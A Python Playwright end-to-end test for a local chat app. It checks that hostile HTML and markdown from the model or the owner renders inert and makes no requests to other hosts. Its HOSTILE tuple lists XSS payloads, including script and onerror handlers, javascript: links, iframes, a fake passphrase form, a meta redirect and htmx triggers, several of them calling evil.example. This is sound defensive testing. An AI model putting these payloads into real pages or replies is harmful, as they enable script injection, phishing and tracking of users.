"""What a hostile model says, or its owner pastes, does nothing."""

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.chat import Chat
from tests.fakes.ollama_thread import OllamaInThread

pytestmark = pytest.mark.e2e

HOSTILE = (
    "<script>document.title='taken'</script>\n\n",
    "<img src=x onerror=\"document.title='taken'\"> ![pixel](https://evil.example/pixel.png)\n\n",
    '<iframe src="https://evil.example/frame"></iframe>\n\n',
    "[a link](javascript:document.title='taken') [another](data:text/html,taken)\n\n",
    "<style>body{display:none} @import url(https://evil.example/s.css)</style>\n\n",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">cover</div>\n\n',
    '<form action="https://evil.example/"><input name=passphrase autofocus><button>Sign in</button></form>\n\n',
    "<svg onload=\"document.title='taken'\"></svg><meta http-equiv=refresh content='0;url=https://evil.example/'>\n\n",
    '<a href="/" data-behaviour="composer" hx-get="https://evil.example/x" hx-trigger="load">x</a>\n\n',
    '<template id="unsent"></template><p id="problem" data-chat-log>y</p>\n\n',
    "The end of it.",
)


@pytest.mark.parametrize("whose", ["companion", "owner"])
def test_hostile_words_do_nothing_and_reach_no_other_host(chat: Chat, ollama: OllamaInThread, whose: str) -> None:
    page = chat.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    ollama.say(HOSTILE if whose == "companion" else ["The end of it."])
    chat.say("Show me." if whose == "companion" else "".join(HOSTILE))
    chat.hears("The end of it.")
    chat.ends("complete")
    _is_harmless(page)
    page.reload()
    chat.hears("The end of it.")
    expect(page.locator("[data-composer]")).to_be_visible()
    _is_harmless(page)
    here = page.url.split("/chat/")[0]
    assert [url for url in asked if not url.startswith((here, "data:"))] == []


def _is_harmless(page: Page) -> None:
    log = page.locator("[data-chat-log]")
    words = log.locator("[data-text]")
    expect(
        words.locator("script, iframe, style, form, input, svg, img, meta, template, [style], [onerror]")
    ).to_have_count(0)
    expect(log.locator("[data-text] :is([data-behaviour], [hx-get], [id], [class])")).to_have_count(0)
    expect(log.locator("a[href^='javascript'], a[href^='data']")).to_have_count(0)
    assert page.title() != "taken"
